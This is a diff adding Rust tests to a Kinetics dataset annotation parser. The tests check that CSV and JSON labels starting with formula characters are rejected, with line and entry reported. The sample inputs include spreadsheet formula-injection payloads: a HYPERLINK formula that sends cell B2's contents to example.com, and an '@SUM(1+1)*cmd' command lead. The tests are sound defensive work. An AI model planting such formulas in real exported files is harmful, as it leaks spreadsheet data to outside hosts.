@@ -459,3 +459,102 @@ fn guesses_versions() {
     .unwrap();
     assert_eq!(test.guess_version(), Some(Version::K400));
 }
+
+/// Labels a spreadsheet would run as formulas, as written in a CSV field, and as read (trimmed).
+const FORMULA_LABELS: [(&str, &str); 6] = [
+    (
+        r#""=HYPERLINK(""http://example.com/?""&B2,""open"")""#,
+        r#"=HYPERLINK("http://example.com/?"&B2,"open")"#,
+    ),
+    ("@SUM(1+1)*cmd", "@SUM(1+1)*cmd"),
+    ("+1+1", "+1+1"),
+    ("-2+3", "-2+3"),
+    // A leading tab or carriage return is trimmed like other spaces, and the formula behind it is seen.
+    ("\"\t=1+1\"", "=1+1"),
+    ("\"\r=1+1\"", "=1+1"),
+];
+
+#[test]
+fn formula_like_labels_are_refused_with_their_line() {
+    for (field, label) in FORMULA_LABELS {
+        let text = format!(
+            "{K400_HEADER}abseiling,0wR5jVB-WPk,417,427,val,0\n{field},3caPS4FHFF8,36,46,val,0\n"
+        );
+        assert_eq!(
+            field_error(&text),
+            (
+                3,
+                "label",
+                FieldProblem::FormulaLabel {
+                    label: label.into(),
+                    entry: None
+                }
+            ),
+            "{field}"
+        );
+        let skipped = parse("f.csv", text.as_bytes(), &ReadOptions::skipping()).unwrap();
+        assert_eq!(
+            (skipped.labels.as_slice(), skipped.skipped.rows),
+            (["abseiling".to_owned()].as_slice(), 1),
+            "{field}"
+        );
+    }
+    assert_eq!(
+        read(&format!("{K400_HEADER}+1+1,3caPS4FHFF8,36,46,val,0\n"))
+            .unwrap_err()
+            .to_string(),
+        "f.csv line 2, field label: \"+1+1\": a label may not begin with =, +, -, @, a tab or a \
+         carriage return (a spreadsheet would run it as a formula); no official Kinetics label does"
+    );
+    // Inside a label these characters are harmless, and official labels use `-` and `(`.
+    let fine = read(&format!(
+        "{K400_HEADER}\"pull ups (x=1+1)\",3caPS4FHFF8,36,46,val,0\nt-shirt @ 2,3caPS4FHFF8,1,11,val,0\n"
+    ))
+    .unwrap();
+    assert_eq!(fine.labels, ["pull ups (x=1+1)", "t-shirt @ 2"]);
+}
+
+#[test]
+fn formula_like_json_labels_are_refused_with_their_line_and_entry() {
+    for (_, label) in FORMULA_LABELS {
+        let quoted = serde_json::to_string(label).unwrap();
+        let json = format!(
+            "{{\n  \"0wR5jVB-WPk\": {{\"annotations\": {{\"label\": \"a\", \"segment\": [1, 11]}}, \"subset\": \"train\"}},\n  \"3caPS4FHFF8\": {{\"annotations\": {{\"label\": {quoted}, \"segment\": [1, 11]}}, \"subset\": \"train\"}}\n}}"
+        );
+        let error = parse("k.json", json.as_bytes(), &ReadOptions::default()).unwrap_err();
+        assert_eq!(
+            error,
+            Error::Field {
+                file: "k.json".into(),
+                line: 3,
+                field: "annotations.label",
+                problem: FieldProblem::FormulaLabel {
+                    label: label.into(),
+                    entry: Some(YoutubeId::parse("3caPS4FHFF8").unwrap()),
+                },
+            },
+            "{label:?}"
+        );
+        let skipped = parse("k.json", json.as_bytes(), &ReadOptions::skipping()).unwrap();
+        assert_eq!((skipped.labels.len(), skipped.skipped.rows), (1, 1));
+    }
+    let one_line = r#"{"0wR5jVB-WPk": {"annotations": {"label": "@SUM(1+1)*cmd", "segment": [1, 11]}, "subset": "train"}}"#;
+    assert_eq!(
+        parse("k.json", one_line.as_bytes(), &ReadOptions::default())
+            .unwrap_err()
+            .to_string(),
+        "k.json line 1, field annotations.label: \"@SUM(1+1)*cmd\" (entry \"0wR5jVB-WPk\"): a label may \
+         not begin with =, +, -, @, a tab or a carriage return (a spreadsheet would run it as a \
+         formula); no official Kinetics label does"
+    );
+}
+
+#[test]
+fn formula_leads() {
+    for label in ["=1", "+1", "-1", "@a", "\tx", "\rx"] {
+        assert!(is_formula_like(label), "{label:?}");
+    }
+    for label in ["", "abseiling", "t-shirt", " =1", "\u{ff1d}1", "(=1)"] {
+        assert!(!is_formula_like(label), "{label:?}");
+    }
+}
